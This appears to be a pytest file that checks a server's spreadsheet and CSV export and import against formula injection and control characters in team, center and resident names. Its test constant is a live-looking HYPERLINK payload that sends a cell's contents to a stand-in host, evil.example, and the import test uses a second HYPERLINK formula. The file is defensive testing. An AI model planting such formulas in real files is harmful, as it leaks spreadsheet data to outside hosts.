"""Exports no spreadsheet runs (issue 15, finding 8): text that starts like a formula stays text in XLSX and
CSV; a control character in an existing name is dropped instead of failing the export; names with control
characters are refused on the way in (API and import); imported cells starting with = are not kept."""
import csv
import io

import pytest
from openpyxl import load_workbook

from server.followups import export

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def rename_team(session, team_id, name):
    from server.org.models import Team

    session.get(Team, team_id).name = name
    session.commit()


def xlsx_names(resp):
    assert resp.status_code == 200, resp.get_json()
    sheet = load_workbook(io.BytesIO(resp.data)).active  # formulas kept as written (not data_only)
    return {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=3)}


def csv_names(resp):
    assert resp.status_code == 200, resp.get_json()
    return [row["名称"] for row in csv.DictReader(io.StringIO(resp.data.decode("utf-8-sig")))]


def test_a_team_named_like_a_formula_exports_as_text(as_user, world, session):
    rename_team(session, world.teams["A1"], EVIL)
    rename_team(session, world.teams["A2"], "@SUM(1+1)")
    admin = as_user("admin")
    names = xlsx_names(admin.get("/api/v1/followups/indicators/export?year=2026&format=xlsx"))
    assert names[EVIL] == "s" and names["@SUM(1+1)"] == "s"  # a string cell, not a formula ('f')
    names = csv_names(admin.get("/api/v1/followups/indicators/export?year=2026&format=csv"))
    assert "'" + EVIL in names and "'@SUM(1+1)" in names and EVIL not in names


def test_a_control_character_in_an_existing_name_does_not_break_the_export(as_user, world, session):
    rename_team(session, world.teams["A1"], "团队\x07A1\x1b")
    admin = as_user("admin")
    assert "团队A1" in xlsx_names(admin.get("/api/v1/followups/indicators/export?year=2026&format=xlsx"))
    assert "团队A1" in csv_names(admin.get("/api/v1/followups/indicators/export?year=2026&format=csv"))


@pytest.mark.parametrize("value, written", [
    ("-1+2", "'-1+2"), ("+86 138", "'+86 138"), ("\t=x", "'=x"), ("a=b", "a=b"), (-1, -1), (0.5, 0.5),
    (None, ""), ("李四\r\n", "李四"),
])
def test_csv_cells(value, written):
    assert export.csv_cell(value) == written


def test_names_with_control_characters_are_refused(as_user, world):
    admin = as_user("admin")
    cases = [
        ("/api/v1/teams", {"center_id": world.centers["A"], "name": "团队\x07"}),
        ("/api/v1/centers", {"code": "Z", "name": "中心\x1b", "county_code": "310115", "township_code": "005",
                             "township_name": "街道"}),
        ("/api/v1/committees", {"center_id": world.centers["A"], "code": "009", "name": "居委\n会"}),
        ("/api/v1/residents", {"household_id": world.households["A1-0"], "name": "张\x00三", "sex": "1",
                               "birth_date": "1960-01-01"}),
    ]
    for path, body in cases:
        r = admin.post(path, json=body)
        assert r.status_code == 422, (path, r.get_json())
        assert "name" in r.get_json()["errors"]["json"], r.get_json()
    rid = world.residents["A1-0-0"]
    etag = admin.get(f"/api/v1/residents/{rid}").headers["ETag"]
    r = admin.patch(f"/api/v1/residents/{rid}", json={"name": "王\u0085五"}, headers={"If-Match": etag})
    assert r.status_code == 422 and "name" in r.get_json()["errors"]["json"], r.get_json()
    r = admin.post("/api/v1/teams", json={"center_id": world.centers["A"], "name": "团队 甲"})
    assert r.status_code == 201  # an ordinary name still goes in


def test_imported_cells_starting_with_equals_are_not_kept(as_user, world, session):
    from server.households.models import Resident

    header = "户编号,居委会,家庭住址,姓名,性别,出生日期\n"
    rows = ['H1,001,甲路1号,"=HYPERLINK(""http://x"",""y"")",男,1960-01-01\n',
            "H2,001,甲路2号,李\x07四,女,1961-02-02\n"]
    before = session.query(Resident).count()
    r = as_user("staff-a").post(f"/api/v1/imports/residents?center_id={world.centers['A']}&dry_run=false",
                                data={"file": (io.BytesIO((header + "".join(rows)).encode()), "x.csv")},
                                content_type="multipart/form-data")
    assert r.status_code == 422, r.get_json()
    problems = r.get_json()["errors"]["rows"]
    assert any(p.startswith("row 2: name: starts with =") for p in problems), problems
    assert "row 3: name: contains a control character" in problems, problems
    assert session.query(Resident).count() == before
